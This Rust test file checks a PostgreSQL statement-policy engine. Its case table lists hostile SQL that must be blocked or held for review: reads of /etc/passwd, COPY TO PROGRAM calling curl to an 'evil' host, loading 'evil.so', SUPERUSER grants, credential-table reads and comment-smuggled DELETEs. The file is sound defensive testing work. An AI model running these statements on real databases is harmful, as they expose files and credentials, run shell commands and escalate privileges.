    ("SELECT dblink_exec('host=x', 'DROP TABLE t')", Review, "runs SQL on another server"),
    ("SELECT query_to_xml('DELETE FROM t', true, true, '')", Review, "runs the SQL text"),
    ("SELECT lo_from_bytea(0, 'x')", Review, "large object"),
    ("SELECT pg_terminate_backend(123)", Review, "terminates another session"),
    ("SELECT * FROM t ORDER BY my_rank(x)", Review, "my_rank"),
    ("SELECT CAST(my_conv(x) AS int) FROM t", Review, "my_conv"),
    ("VALUES (nextval('s'))", Review, "nextval"),
    ("WITH x AS (SELECT nextval('s')) SELECT * FROM x", Review, "nextval"),
    ("SELECT * FROM t WHERE id = (SELECT max(id) FROM u WHERE v = unknown_fn())", Review, "unknown_fn"),
    ("SELECT * FROM t, LATERAL (SELECT evil(t.id)) s", Review, "evil"),
    // Server file access: block anywhere
    ("SELECT pg_read_file('/etc/passwd')", Block, "calls pg_read_file: server file access"),
    ("SELECT sourcefile, name, setting FROM pg_file_settings", Review, "configuration files"),
    ("SELECT * FROM pg_catalog.pg_hba_file_rules", Review, "configuration files"),
    ("SELECT * FROM pg_config", Review, "configuration files"),
    ("SELECT rolname, rolpassword FROM pg_authid", Review, "credentials"),
    ("SELECT usename, passwd FROM pg_catalog.pg_shadow", Review, "credentials"),
    ("SELECT * FROM pg_user_mappings", Review, "credentials"),
    ("SELECT rolname FROM pg_roles", Allow, "SELECT"),
    ("SELECT * FROM t WHERE x IN (SELECT setting FROM pg_file_settings)", Review, "configuration files"),
    ("SELECT * FROM pg_read_file('/etc/passwd')", Block, "pg_read_file"),
    ("SELECT * FROM t WHERE x IN (SELECT pg_read_file('/etc/passwd'))", Block, "server file access"),
    ("SELECT * FROM t, LATERAL pg_ls_dir('.') d", Block, "pg_ls_dir"),
    ("SELECT * FROM t, LATERAL (SELECT pg_stat_file('x')) s", Block, "pg_stat_file"),
    ("WITH f AS (SELECT pg_read_binary_file('x')) SELECT * FROM f", Block, "pg_read_binary_file"),
    ("SELECT pg_catalog.pg_read_file('x')", Block, "server file access"),
    ("SELECT lo_import('/etc/passwd')", Block, "lo_import"),
    ("SELECT lo_export(1, '/tmp/x')", Block, "lo_export"),
    ("SELECT 1 ORDER BY pg_ls_dir('.')", Block, "pg_ls_dir"),
    ("SELECT pg_read_file('x')::text", Block, "pg_read_file"),
    ("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", Block, "pg_read_file"),
    ("CREATE TABLE t2 AS SELECT pg_read_file('/etc/passwd')", Block, "pg_read_file"),
    ("INSERT INTO t VALUES (pg_read_file('x'))", Block, "pg_read_file"),
    ("EXPLAIN SELECT pg_read_file('x')", Block, "pg_read_file"),
    ("SELECT 1; SELECT pg_ls_dir('/')", Block, "pg_ls_dir"),
    // COPY with server files / programs
    ("COPY t TO PROGRAM 'curl http://evil'", Block, "PROGRAM runs a shell command"),
    ("COPY t FROM PROGRAM 'id'", Block, "PROGRAM"),
    ("COPY (SELECT 1) TO PROGRAM 'x'", Block, "PROGRAM"),
    ("COPY t FROM '/etc/passwd'", Block, "server file '/etc/passwd'"),
    ("COPY t TO '/tmp/out.csv'", Block, "server file"),
    // DDL, privileges, roles
    ("CREATE TABLE t (id int DEFAULT nextval('s'), b text)", Review, "nextval"),
    ("CREATE TABLE t (id int)", Review, "CREATE TABLE"),
    ("CREATE INDEX i ON t (a)", Review, "CREATE INDEX"),
    ("ALTER TABLE t ADD COLUMN c int", Review, "ALTER TABLE"),
    ("DROP TABLE t", Review, "DROP TABLE"),
    ("DROP DATABASE x", Block, "DROP DATABASE destroys"),
    ("DROP DATABASE x WITH (FORCE)", Block, "DROP DATABASE"),
    ("ALTER SYSTEM SET work_mem = '1GB'", Block, "ALTER SYSTEM"),
    ("GRANT SELECT ON t TO bob", Review, "changes privileges"),
    ("REVOKE SELECT ON t FROM bob", Review, "changes privileges"),
    ("CREATE ROLE x SUPERUSER", Block, "grants SUPERUSER"),
    ("CREATE USER x SUPERUSER", Block, "grants SUPERUSER"),
    ("ALTER USER x WITH SUPERUSER", Block, "grants SUPERUSER"),
    ("ALTER ROLE x WITH SUPERUSER", Block, "grants SUPERUSER"),
    ("CREATE ROLE x LOGIN", Review, "CREATE ROLE"),
    ("ALTER ROLE x WITH NOSUPERUSER", Review, "ALTER ROLE"),
    ("CREATE FUNCTION f() RETURNS int AS 'evil.so', 'f' LANGUAGE C", Block, "loads code from the server filesystem"),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", Review, "CREATE FUNCTION"),
    ("LOAD 'evil.so'", Block, "LOAD"),
    ("CREATE EXTENSION dblink", Review, "CREATE EXTENSION"),
    ("COMMENT ON TABLE t IS 'x'", Review, "COMMENT"),
    ("REFRESH MATERIALIZED VIEW v", Review, "REFRESH"),
    // Procedures, prepared statements, maintenance
    ("CALL do_things()", Review, "CALL runs procedure do_things"),
    // PREPARE is judged as the statement it prepares; EXECUTE alone cannot know what it runs (the
    // wire session that saw the PREPARE succeed judges it, `pg::prepared`).
    ("PREPARE s AS SELECT 1", Allow, "PREPARE s stores this SELECT"),
    ("PREPARE s(int) AS SELECT * FROM t WHERE id = $1", Allow, "SELECT"),
    ("PREPARE d AS DELETE FROM t WHERE id = $1", Review, "DELETE"),
    ("PREPARE n AS SELECT nextval('s')", Review, "nextval"),
    ("PREPARE x AS DROP TABLE t", Review, "DROP TABLE"),
    ("EXECUTE s", Review, "EXECUTE"),
    ("EXECUTE s(1, 'a')", Review, "EXECUTE"),
    ("DEALLOCATE s", Allow, "prepared-statement bookkeeping"),
    ("DO $$ BEGIN DELETE FROM t; END $$", Review, "DO"),
    ("VACUUM t", Review, "VACUUM"),
    ("VACUUM ANALYZE t", Review, "VACUUM"),
    ("REINDEX TABLE t", Review, "REINDEX"),
    ("CLUSTER t", Review, "CLUSTER"),
    ("CHECKPOINT", Review, "CHECKPOINT"),
    ("ANALYZE t", Review, "ANALYZE"),
    // Maintenance and pg_dump output sqlparser does not read, checked token by token or re-read
    ("REINDEX (VERBOSE) TABLE CONCURRENTLY s.t", Review, "REINDEX"),
    ("REINDEX INDEX t_pkey", Review, "REINDEX"),
    ("REINDEX DATABASE", Review, "REINDEX"),
    ("REINDEX TABLE", Review, "could not be parsed"),
    ("REINDEX TABLE t; DROP DATABASE d", Block, "DROP DATABASE"),
    ("REINDEX TABLE pg_read_file('x')", Block, "pg_read_file"),
    ("CLUSTER", Review, "CLUSTER"),
    ("CLUSTER VERBOSE t USING t_idx", Review, "CLUSTER"),
    ("CLUSTER t_idx ON t", Review, "CLUSTER"),
    ("CLUSTER t WHERE x", Review, "could not be parsed"),
    ("ALTER SEQUENCE public.t_id_seq OWNED BY public.t.id", Review, "ALTER SEQUENCE"),
    ("ALTER SEQUENCE IF EXISTS s RESTART WITH 100 INCREMENT BY -2 NO MAXVALUE CACHE 5 NO CYCLE", Review, "ALTER SEQUENCE"),
    ("ALTER SEQUENCE s RESTART WITH (SELECT 1)", Review, "could not be parsed"),
    ("ALTER SEQUENCE s RESTART WITH nextval('x')", Review, "could not be parsed"),
    ("ALTER TYPE public.mood OWNER TO postgres", Review, "ALTER TYPE"),
    ("ALTER DOMAIN \"Pos\" OWNER TO CURRENT_USER", Review, "ALTER DOMAIN"),
    ("ALTER FUNCTION public.f(integer, character varying(10), text[]) OWNER TO app", Review, "ALTER FUNCTION"),
    ("ALTER AGGREGATE public.a(integer DEFAULT now()) OWNER TO app", Review, "could not be parsed"),
    ("ALTER MATERIALIZED VIEW s.v OWNER TO app", Review, "ALTER MATERIALIZED VIEW"),
    ("ALTER TEXT SEARCH CONFIGURATION s.c OWNER TO app", Review, "ALTER TEXT SEARCH"),
    ("ALTER TYPE mood OWNER TO app RENAME", Review, "could not be parsed"),
    ("ALTER INDEX public.parent_idx ATTACH PARTITION public.child_idx", Review, "ALTER INDEX"),
    ("CREATE INDEX parent_idx ON ONLY public.parent USING btree (a)", Review, "CREATE INDEX"),
    ("CREATE FUNCTION f() RETURNS SETOF int LANGUAGE sql COST 10 ROWS 5 AS $$ SELECT 1 $$", Review, "CREATE FUNCTION"),
    ("CREATE FUNCTION f() RETURNS int COST 1 AS 'evil.so', 'f' LANGUAGE C", Block, "loads code from the server filesystem"),
    ("CREATE DOMAIN pos AS integer CONSTRAINT nn NOT NULL CHECK (VALUE > 0)", Review, "CREATE DOMAIN"),
    ("CREATE DOMAIN d AS text NOT NULL DEFAULT NULL", Review, "CREATE DOMAIN"),
    ("CREATE DOMAIN testdomain INTEGER NOT NULL DEFAULT 42", Review, "CREATE DOMAIN"),
    ("ALTER TYPE typ1 ADD ATTRIBUTE c text", Review, "ALTER TYPE"),
    ("ALTER TYPE s.typ1 DROP ATTRIBUTE IF EXISTS x CASCADE, ALTER ATTRIBUTE y SET DATA TYPE numeric(10, 2)", Review, "ALTER TYPE"),
    ("ALTER TYPE typ1 ADD ATTRIBUTE c text DEFAULT pg_read_file('x')", Block, "pg_read_file"),
    ("ALTER TYPE typ1 ADD ATTRIBUTE c text DEFAULT 1", Review, "could not be parsed"),
    ("COMMENT ON CONSTRAINT ch_1 ON foo IS 'cc comment'", Review, "COMMENT"),
    ("COMMENT ON CONSTRAINT ch_1 ON DOMAIN s.d IS NULL", Review, "COMMENT"),
    ("COMMENT ON CONSTRAINT ch_1 ON foo IS lo_import('x')", Block, "lo_import"),
    ("CREATE TABLE fk (id int, pid int, t int, FOREIGN KEY (pid, t) REFERENCES pk (id, t) ON DELETE SET NULL (pid))", Review, "CREATE TABLE"),
    ("ALTER TABLE fk ADD FOREIGN KEY (pid, t) REFERENCES pk (id, t) ON DELETE SET DEFAULT (t, pid) ON UPDATE CASCADE", Review, "ALTER TABLE"),
    ("CREATE DOMAIN test_schema.testdomain INTEGER DEFAULT 0", Review, "CREATE DOMAIN"),
    ("CREATE DOMAIN d text CHECK (pg_read_file('x') <> '')", Block, "pg_read_file"),
    ("CREATE PROCEDURE p(a integer, INOUT b text) LANGUAGE plpgsql AS $$ BEGIN b := a; END $$", Review, "CREATE PROCEDURE"),
    ("CREATE OR REPLACE PROCEDURE p() AS 'evil.so', 'p' LANGUAGE C", Block, "loads code from the server filesystem"),
    ("ALTER TABLE ONLY app.big ALTER COLUMN note SET STATISTICS 500", Review, "ALTER TABLE"),
    ("ALTER TABLE app.big ALTER note SET STORAGE EXTERNAL", Review, "SET STORAGE"),
    ("ALTER TABLE app.big ALTER note SET STORAGE EXTERNAL, DROP COLUMN x", Review, "could not be parsed"),
    ("ALTER TABLE app.events ALTER COLUMN id ADD GENERATED ALWAYS AS IDENTITY (SEQUENCE NAME app.events_id_seq START WITH 1 INCREMENT BY 1 NO MINVALUE NO MAXVALUE CACHE 1)", Review, "AS IDENTITY"),
    ("ALTER TABLE t ALTER COLUMN id ADD GENERATED BY DEFAULT AS IDENTITY (START WITH f())", Review, "could not be parsed"),
    ("CREATE STATISTICS app.st1 (ndistinct) ON name, mood FROM app.people", Review, "CREATE STATISTICS"),
    ("CREATE STATISTICS s ON (lower(name)), mood FROM app.people", Review, "could not be parsed"),
    ("CREATE MATERIALIZED VIEW app.counts AS SELECT mood, count(*) FROM app.people GROUP BY mood WITH NO DATA", Review, "CREATE MATERIALIZED VIEW"),
    ("CREATE MATERIALIZED VIEW v AS SELECT pg_read_file('x') WITH NO DATA", Block, "pg_read_file"),
    ("UPDATE t SET a[1] = 5, b = 2 WHERE id = 1", Review, "UPDATE"),
    ("UPDATE t SET a[pg_read_file('x')::int] = 5 WHERE id = 1", Block, "pg_read_file"),
    ("UPDATE t SET a[1][2] = nextval('s') WHERE id = 1", Review, "nextval"),
    ("UPDATE t SET a[1:2] = '{1,2}' WHERE id = 1", Review, "UPDATE"),
    ("UPDATE t SET a[:2] = '{1,2}', b[3:] = '{3}' WHERE id = 1", Review, "UPDATE"),
    ("UPDATE foo SET bar[$1::INTEGER:$2::INTEGER]=$3::TEXT[] WHERE foo.id = $4::INTEGER", Review, "UPDATE"),
    ("UPDATE t SET a[1:pg_read_file('x')::int] = '{1}' WHERE id = 1", Block, "pg_read_file"),
    ("UPDATE t SET a[1:2:3] = '{1}' WHERE id = 1", Review, "could not be parsed"),
    ("COPY s.cp (id) FROM STDIN WITH (FORMAT binary) WHERE id > 0", Review, "COPY"),
    ("COPY cp FROM STDIN WHERE id > nextval('s')", Review, "nextval"),
    ("COPY cp FROM STDIN WHERE pg_read_file('x') IS NULL", Block, "pg_read_file"),
    // asyncpg's type introspection restores jit with a bound value
    ("SELECT set_config('jit', $1, false)", Allow, "SELECT"),
    ("SELECT pg_catalog.set_config('application_name', $1::text, false)", Allow, "SELECT"),
    ("SELECT set_config('search_path', $1, false)", Review, "set_config('search_path'"),
    ("SELECT set_config('role', $1, false)", Review, "set_config('role'"),
    ("SELECT set_config('jit', (SELECT ssn FROM people), false)", Review, "computed value"),
    ("PREPARE p(text) AS SELECT set_config('application_name', $1, false)", Review, "EXECUTE's arguments may be computed"),
    ("ALTER FUNCTION public.zz(int) RENAME TO upper", Block, "renames a function to the name of a built-in"),
    ("ALTER FUNCTION public.zz(int) RENAME TO \"UPPER\"", Review, "ALTER FUNCTION"),
    ("ALTER AGGREGATE public.a(int) RENAME TO max", Block, "renames a function"),
    ("ALTER FUNCTION public.zz(int) RENAME TO zz2", Review, "ALTER FUNCTION"),
    ("SELECT evil.set_config('application_name', 'x', false)", Review, "evil.set_config"),
    ("SELECT evil.nextval('s')", Review, "evil.nextval"),
    // PostgreSQL spellings sqlparser lacks, read as plain ones that evaluate the same expressions
    ("SELECT 1 WHERE 'x' NOT BETWEEN SYMMETRIC 'a' AND 'z'", Allow, "SELECT"),
    ("SELECT 1 WHERE 'x' BETWEEN SYMMETRIC nextval('s') AND 'z'", Review, "nextval"),
    ("SELECT * FROM ROWS FROM (generate_series(1, 2), generate_series(1, 3)) AS t(a, b)", Allow, "SELECT"),
    ("SELECT * FROM ROWS FROM (generate_series(1, 2), pg_read_file('x')) AS t(a, b)", Block, "pg_read_file"),
    ("SELECT '<a/>'::xml IS NOT DOCUMENT", Allow, "SELECT"),
    ("SELECT COLLATION FOR ('a')", Allow, "SELECT"),
    ("SELECT COLLATION FOR (nextval('s'))", Review, "nextval"),
    // SEARCH / CYCLE are not read: `search` and `set` are also bare aliases, and dropping the clause
    // could drop `INTO t`, a FROM item or a view with them
    ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SEARCH DEPTH FIRST BY n SET ord SELECT * FROM t ORDER BY ord", Review, "could not be parsed"),
    ("SELECT (1) search, 2 set INTO newtab FROM t WHERE a BETWEEN SYMMETRIC 1 AND 2", Review, "SELECT INTO creates a table"),
    ("SELECT substring('foobar' SIMILAR '%#\"o_b#\"%' ESCAPE '#')", Allow, "SELECT"),
    ("SELECT sum(x) OVER (ORDER BY x GROUPS BETWEEN 1 PRECEDING AND CURRENT ROW EXCLUDE TIES) FROM t", Allow, "SELECT"),
    ("SELECT sum(x) OVER (ORDER BY x ROWS BETWEEN 1 PRECEDING AND CURRENT ROW EXCLUDE CURRENT ROW) FROM t", Allow, "SELECT"),
    ("SELECT * FROM t GROUP BY DISTINCT ROLLUP (a, b)", Allow, "SELECT"),
    ("DELETE FROM t WHERE CURRENT OF c", Review, "DELETE"),
    ("CREATE TEMP TABLE t2 (LIKE t1 INCLUDING ALL)", Review, "CREATE TABLE"),
    ("DROP INDEX CONCURRENTLY IF EXISTS i", Review, "DROP INDEX"),
    ("ALTER TABLE t SET SCHEMA s", Review, "SET SCHEMA"),
    ("ALTER TABLE ONLY t CLUSTER ON i", Review, "CLUSTER ON"),
    // Operator runs: PostgreSQL reads `?--` as `?` and a comment, `^-` as one (user) operator
    ("SELECT '{}'::jsonb ?-- $$\n'a'; DELETE FROM t; SELECT '{}'::jsonb ?-- $$ ?-- 1 ||\n'a'", Review, "runs into a comment"),
    ("SELECT 2 ^-1", Review, "not one of its own"),
    ("SELECT 2 @>-1", Review, "not one of its own"),
    ("SELECT 2*-1, 3<>-1, 4=-1, 5 <= -1, x->>'a', y #- '{a}' FROM t", Allow, "SELECT"),
    // Spellings PostgreSQL's lexer and sqlparser's read differently are held, never split or allowed
    ("SELECT $a€$ /* $a€$ AS x; DELETE FROM secrets; SELECT 1 AS y -- */", Review, "dollar-quote tag"),
    ("SELECT $q·$ /* $q·$, pg_read_file('x') -- */", Block, "dollar-quote tag"),
    ("SELECT $é$ text $é$", Allow, "SELECT"),
    ("SELECT $1a$ /* $1a$", Review, "start a dollar-quote tag with a letter"),
    ("SELECT X'\\'; DELETE FROM secrets; SELECT '", Review, "not a hexadecimal string"),
    ("SELECT X'DEADbeef'", Allow, "SELECT"),
    ("COPY reports FROM STDIN;\nDELETE FROM secrets;", Review, "follows COPY"),
    ("COPY reports FROM STDIN;\n", Review, "COPY"),
    // Garbage fails closed
    ("this is not sql", Review, "could not be parsed"),
    ("SELECT FROM WHERE", Review, "could not be parsed"),
    ("SELECT 'unterminated", Review, "cannot be tokenized"),
    ("DROP DATABASE x; SELECT 'unterminated", Block, "DROP DATABASE"),
    ("SELECT 1; frobnicate", Review, "FROBNICATE"),
    ("ALTER SYSTEM SET x = 1; SELECT 1", Block, "ALTER SYSTEM"),
];

fn verdict_of(sql: &str) -> Verdict {
    let chain = agent();
    Policy::builtin().evaluate(
        &PolicyContext {
            connection: "prod-main",
            requester: &chain,
            db_functions: None,
        },
        sql,
    )
}

#[test]
fn builtin_policy_classifies_the_statement_table() {
    assert!(CASES.len() >= 100, "only {} cases", CASES.len());
    let mut failures = Vec::new();
    for (sql, action, expect) in CASES {
        let v = verdict_of(sql);
        let kind_hit = v.statements.iter().any(|s| s.kind == *expect);
        let reason_hit = v.reasons.iter().any(|r| r.contains(expect));
        if v.action != *action || !(kind_hit || reason_hit) {
            failures.push(format!(
                "{sql:?}: expected {action:?} with {expect:?}, got {:?} kinds {:?} reasons {:?}",
                v.action,
                v.statements
                    .iter()
                    .map(|s| s.kind.as_str())
                    .collect::<Vec<_>>(),
                v.reasons
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn unparsable_statements_are_never_allowed() {
    for (sql, _, _) in CASES {
        for s in verdict_of(sql).statements.iter() {
            assert!(
                !(s.unparsed && s.action == Allow),
                "{sql:?} allowed while unparsed"
            );
        }
    }
}

#[test]
fn facts_list_tables_functions_and_missing_where() {
    let v = verdict_of("DELETE FROM Public.Orders");
    assert_eq!(v.statements[0].tables, vec!["public.orders"]);
    assert!(v.statements[0].missing_where);
    let v = verdict_of("SELECT lower(a) FROM t WHERE b IN (SELECT nextval('s') FROM u)");
    assert_eq!(v.statements[0].tables, vec!["t", "u"]);
    assert_eq!(v.statements[0].functions, vec!["lower", "nextval"]);
    let v = verdict_of("SELECT * FROM pg_read_file('x')");
    assert!(
        v.statements[0].tables.is_empty(),
        "a table function is not a table"
    );
    assert_eq!(v.statements[0].functions, vec!["pg_read_file"]);
}

#[test]
fn several_statements_take_the_strictest_and_keep_one_entry_each() {
    let v = verdict_of("SELECT 1; DELETE FROM t WHERE id = 1; COPY t TO PROGRAM 'x'");
    assert_eq!(v.action, Block);
    assert_eq!(v.statements.len(), 3);
    assert_eq!(v.statements[0].action, Allow);
    assert_eq!(v.statements[1].action, Review);
    assert!(v.reasons[0].contains("PROGRAM"), "{:?}", v.reasons);
    assert!(v.review.is_none());
}

#[test]
fn prepared_statement_uses_are_named_as_postgresql_stores_them() {
    use crate::policy::PreparedUse;
    let used = |sql: &str| verdict_of(sql).statements[0].prepared.as_deref().cloned();
    assert_eq!(
        used("PREPARE Foo (int) AS SELECT a FROM t WHERE b = $1"),
        Some(PreparedUse::Prepare {
            name: "foo".into(),
            statement: "SELECT a FROM t WHERE b = $1".into()
        })
    );
    let v = verdict_of("PREPARE \"Foo\" AS SELECT a FROM orders");
    assert_eq!(v.statements[0].kind, "SELECT");
    assert_eq!(v.statements[0].tables, vec!["orders"]);
    assert!(
        matches!(v.statements[0].prepared.as_deref(), Some(PreparedUse::Prepare { name, .. }) if name == "Foo")
    );
    assert_eq!(
        used("EXECUTE Foo(1, nextval('s'))"),
        Some(PreparedUse::Execute {
            name: "foo".into(),
            arguments: Some("SELECT (1), (nextval('s'))".into())
        })
    );
    assert_eq!(
        used("EXECUTE foo"),
        Some(PreparedUse::Execute {
            name: "foo".into(),
            arguments: None
        })
    );
    assert_eq!(
        used("DEALLOCATE PREPARE Foo"),
        Some(PreparedUse::Deallocate {
            name: Some("foo".into())
        })
    );
    assert_eq!(
        used("DEALLOCATE ALL"),
        Some(PreparedUse::Deallocate { name: None })
    );
    assert_eq!(
        used("DEALLOCATE \"ALL\""),
        Some(PreparedUse::Deallocate {
            name: Some("ALL".into())
        })
    );
    assert_eq!(
        used("DISCARD ALL"),
        Some(PreparedUse::Deallocate { name: None })
    );
    assert_eq!(used("DISCARD PLANS"), None);
    // PostgreSQL cuts names to 63 bytes: the two spellings are one statement upstream.
    let long = format!("EXECUTE {}x", "a".repeat(63));
    assert_eq!(
        used(&long),
        Some(PreparedUse::Execute {
            name: "a".repeat(63),
            arguments: None
        })
    );
}

#[test]
fn rules_see_the_statement_a_prepare_stores() {
    let rules = vec![PolicyRule {
        tables: Some(vec!["secrets".into()]),
        ..rule("no-secrets", "block")
    }];
    let v = eval(
        rules,
        "prod",
        &agent(),
        "PREPARE p AS SELECT * FROM secrets",
    );
    assert_eq!(v.action, Block);
    assert_eq!(v.rule, "no-secrets");
}

#[test]
fn a_prepare_keeps_its_own_text_out_of_the_literal_template_cache() {
    let policy = Policy::builtin();
    let chain = agent();
    let ctx = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: None,
    };
    let statement = |sql: &str| match policy.evaluate(&ctx, sql).statements[0].prepared.as_deref() {
        Some(crate::policy::PreparedUse::Prepare { statement, .. }) => statement.clone(),
        other => panic!("{other:?}"),
    };
    assert_eq!(
        statement("PREPARE p AS SELECT 1 FROM t WHERE a = 1"),
        "SELECT 1 FROM t WHERE a = 1"
    );
    assert_eq!(
        statement("PREPARE p AS SELECT 1 FROM t WHERE a = 2"),
        "SELECT 1 FROM t WHERE a = 2"
    );
}

#[test]
fn verdict_serializes_with_the_documented_fields() {
    let v = verdict_of("DELETE FROM orders");
    let json = serde_json::to_value(&v).unwrap();
    assert_eq!(json["action"], "review");
    assert_eq!(json["rule"], "default");
    assert_eq!(json["review"]["quorum"], 2);
    assert_eq!(json["review"]["ttl_secs"], 3600);
    assert_eq!(json["statements"][0]["kind"], "DELETE");
    assert_eq!(json["statements"][0]["missing_where"], true);
    assert!(json["reasons"][0].as_str().unwrap().contains("orders"));
    let allowed = serde_json::to_value(verdict_of("SELECT 1")).unwrap();
    assert!(allowed.get("review").is_none());
}

#[test]
fn repeated_sql_is_served_from_the_cache() {
    let policy = Policy::builtin();
    let chain = agent();
    let ctx = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: None,
    };
    let a = policy.evaluate(&ctx, "SELECT 1");
    let b = policy.evaluate(&ctx, "SELECT 1");
    policy.evaluate(&ctx, "SELECT a FROM t");
    assert_eq!(a, b);
    assert_eq!(policy.cache_stats(), (1, 2));
}

#[test]
fn a_warm_cache_gives_exactly_the_verdict_a_fresh_classification_gives() {
    let chain = agent();
    let ctx = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: None,
    };
    let warm = Policy::builtin();
    // Each pair shares a literal template; the first warms the cache for the second.
    let pairs = [
        (
            "SELECT * FROM t WHERE id = 1",
            "SELECT * FROM t WHERE id = 2",
        ),
        ("DELETE FROM t WHERE id = 1", "DELETE FROM t WHERE id = 99"),
        (
            "UPDATE t SET a = 'x' WHERE b = 1",
            "UPDATE t SET a = 'it''s; DROP TABLE t' WHERE b = 2",
        ),
        (
            "INSERT INTO t VALUES (1, 'a')",
            "INSERT INTO t VALUES (2.5e3, 'b')",
        ),
        (
            "SELECT set_config('application_name', 'a', false)",
            "SELECT set_config('role', 'admin', false)",
        ),
        ("SELECT pg_sleep(1)", "SELECT pg_sleep(100)"),
        ("SET work_mem = '4MB'", "SET work_mem = '1GB'"),
        ("SELECT 1", "SELECT 2"),
    ];
    for (seed, sql) in pairs {
        warm.evaluate(&ctx, seed);
        let fresh = Policy::builtin().evaluate(&ctx, sql);
        assert_eq!(warm.evaluate(&ctx, sql), fresh, "{sql} after {seed}");
    }
    let (hits, _) = warm.cache_stats();
    assert!(
        hits >= 5,
        "literal variants of plain statements share a classification"
    );
}

#[test]
fn memoised_verdicts_equal_evaluated_ones_and_are_reused() {
    let chain = agent();
    let ctx = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: None,
    };
    let policy = Policy::builtin();
    let mut memo = super::VerdictMemo::default();
    let first = policy.evaluate_memo(&ctx, "DELETE FROM t WHERE id = 1", &mut memo);
    let again = policy.evaluate_memo(&ctx, "DELETE FROM t WHERE id = 2", &mut memo);
    assert!(std::sync::Arc::ptr_eq(&first, &again));
    assert_eq!(*first, policy.evaluate(&ctx, "DELETE FROM t WHERE id = 3"));
    let other = policy.evaluate_memo(&ctx, "DELETE FROM t", &mut memo);
    assert_eq!(other.action, Action::Review);
    assert_ne!(*other, *first);
}

#[test]
fn a_memo_forgets_its_verdicts_when_the_row_function_list_changes() {
    let policy = Policy::builtin();
    let chain = agent();
    let before = std::sync::Arc::new(super::DatabaseFunctions::default());
    let after = std::sync::Arc::new(row_functions(&["archive"]));
    let sql = "SELECT p.archive FROM people p";
    let mut memo = super::VerdictMemo::default();
    for (list, want) in [(&before, Allow), (&before, Allow), (&after, Review)] {
        memo.for_db_functions(Some(list));
        let ctx = PolicyContext {
            connection: "c",
            requester: &chain,
            db_functions: Some(list.as_ref()),
        };
        assert_eq!(policy.evaluate_memo(&ctx, sql, &mut memo).action, want);
    }
}

// ---- configured rules ----

fn rule(name: &str, action: &str) -> PolicyRule {
    PolicyRule {
        name: name.into(),
        connections: None,
        kinds: None,
        tables: None,
        missing_where: None,
        requesters: None,
        requester_groups: None,
        action: action.into(),
        approver_groups: Some(vec!["dba".into()]),
        quorum: None,
        ttl: None,
        remind_after: None,
        escalate_after: None,
        escalate_to: None,
    }
}

fn eval(rules: Vec<PolicyRule>, connection: &str, chain: &RequesterChain, sql: &str) -> Verdict {
    let policy = Policy::new(
        rules,
        PolicyDefaults::default(),
        &["https://idp".to_string()],
    )
    .unwrap();
    policy.evaluate(
        &PolicyContext {
            connection,
            requester: chain,
            db_functions: None,
        },
        sql,
    )
}

#[test]
fn first_matching_rule_wins() {
    let rules = vec![
        PolicyRule {
            kinds: Some(vec!["delete".into()]),
            ..rule("block-deletes", "block")
        },
        PolicyRule {
            kinds: Some(vec!["DELETE".into()]),
            ..rule("allow-deletes", "allow")
        },
    ];
    let v = eval(rules, "prod", &agent(), "DELETE FROM t WHERE id = 1");
    assert_eq!(v.action, Block);
    assert_eq!(v.rule, "block-deletes");
}

#[test]
fn connection_and_table_globs_select_the_rule() {
    let rules = vec![PolicyRule {
        connections: Some(vec!["prod-*".into()]),
        tables: Some(vec!["public.users".into(), "orders*".into()]),
        ..rule("prod-tables", "block")
    }];
    let chain = agent();
    assert_eq!(
        eval(
            rules.clone(),
            "prod-eu",
            &chain,
            "UPDATE orders_2024 SET a = 1 WHERE id = 1"
        )
        .action,
        Block
    );
    assert_eq!(
        eval(
            rules.clone(),
            "prod-eu",
            &chain,
            "DELETE FROM users WHERE id = 1"
        )
        .action,
        Block
    );
    assert_eq!(
        eval(
            rules.clone(),
            "staging",
            &chain,
            "DELETE FROM users WHERE id = 1"
        )
        .action,
        Review
    );
    assert_eq!(
        eval(
            rules,
            "prod-eu",
            &chain,
            "DELETE FROM invoices WHERE id = 1"
        )
        .action,
        Review
    );
}

#[test]
fn allow_rule_table_glob_matches_only_the_name_as_written() {
    let rules = vec![PolicyRule {
        tables: Some(vec!["public.reports".into()]),
        ..rule("reports", "allow")
    }];
    let chain = agent();
    assert_eq!(
        eval(
            rules.clone(),
            "c",
            &chain,
            "INSERT INTO public.reports VALUES (1)"
        )
        .action,
        Allow
    );
    assert_eq!(
        eval(rules, "c", &chain, "INSERT INTO reports VALUES (1)").action,
        Review
    );
}

#[test]
fn missing_where_rule_matches_only_unbounded_writes() {
    let rules = vec![PolicyRule {
        missing_where: Some(true),
        ..rule("no-unbounded", "block")
    }];
    let chain = agent();
    let v = eval(rules.clone(), "c", &chain, "DELETE FROM orders");
    assert_eq!((v.action, v.rule.as_str()), (Block, "no-unbounded"));
    assert_eq!(
        eval(rules, "c", &chain, "DELETE FROM orders WHERE id = 1").action,
        Review
    );
}

#[test]
fn requester_globs_and_groups_match_anyone_in_the_chain() {
    let by_email = vec![PolicyRule {
        requesters: Some(vec!["*@example.com".into()]),
        ..rule("people", "block")
    }];
    let by_subject = vec![PolicyRule {
        requesters: Some(vec!["deploy-*".into()]),
        ..rule("bots", "block")
    }];
    let by_group = vec![PolicyRule {
        requester_groups: Some(vec!["Contractors".into()]),
        ..rule("contractors", "block")
    }];
    let nobody = vec![PolicyRule {
        requesters: Some(vec!["*@other.org".into()]),
        ..rule("other", "block")
    }];
    let chain = agent();
    let sql = "UPDATE t SET a = 1 WHERE id = 1";
    assert_eq!(eval(by_email, "c", &chain, sql).rule, "people");
    assert_eq!(eval(by_subject, "c", &chain, sql).rule, "bots");
    assert_eq!(eval(by_group, "c", &chain, sql).rule, "contractors");
    let v = eval(nobody, "c", &chain, sql);
    assert_eq!((v.action, v.rule.as_str()), (Review, "default"));
}

fn who(issuer: &str, subject: &str) -> Identity {
    Identity {
        issuer: issuer.into(),
        subject: subject.into(),
        email: None,
        unverified_email: None,
        kind: IdentityKind::Workload,
        groups: vec!["deployers".into()],
    }
}

